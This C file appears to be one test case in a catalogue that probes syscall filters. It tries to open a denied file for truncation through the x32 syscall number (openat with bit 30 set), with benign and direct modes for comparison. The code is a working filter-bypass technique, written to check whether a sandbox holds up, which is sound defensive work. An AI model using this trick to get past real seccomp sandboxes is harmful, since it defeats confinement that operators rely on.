// SPDX-License-Identifier: GPL-2.0-only
/*
 * Claim: what is denied by its number is denied with bit 30 set too
 * (catalogue C1).
 *
 *	x86-64 and x32 have one AUDIT_ARCH; a number with bit 30 selects the
 *	table of x32, in any 64-bit process. openat is 257 in both.
 *
 * The denied act is to open for truncation, which filters on registers can tell
 * too; its twin appends, by the plain number, because refusing x32 altogether
 * is a sound defence. A win replaces the content of the denied file by the
 * run's nonce.
 */
#include "attack.h"

#ifndef __x86_64__
#error "x32-bit means something on x86-64 only"
#endif

#define X32_BIT 0x40000000l

static void attack(struct run *run)
{
	long fd = syscall(SYS_openat | X32_BIT, JUNK(way_from), run->denied,
			  JUNK(O_WRONLY | O_TRUNC | O_CLOEXEC), JUNK(0));

	run->attempts = 1;
	run_opened_to_write(run, (int)fd);
}

int main(int argc, char **argv)
{
	struct run run = run_begin(argc, argv);

	switch (run.mode) {
	case MODE_BENIGN:
		run_plain_write(&run, run.allowed, O_APPEND);
		break;
	case MODE_DIRECT:
		run_plain_write(&run, run.denied, O_TRUNC);
		break;
	case MODE_ATTACK:
		attack(&run);
		break;
	}
	run_end(&run);
}
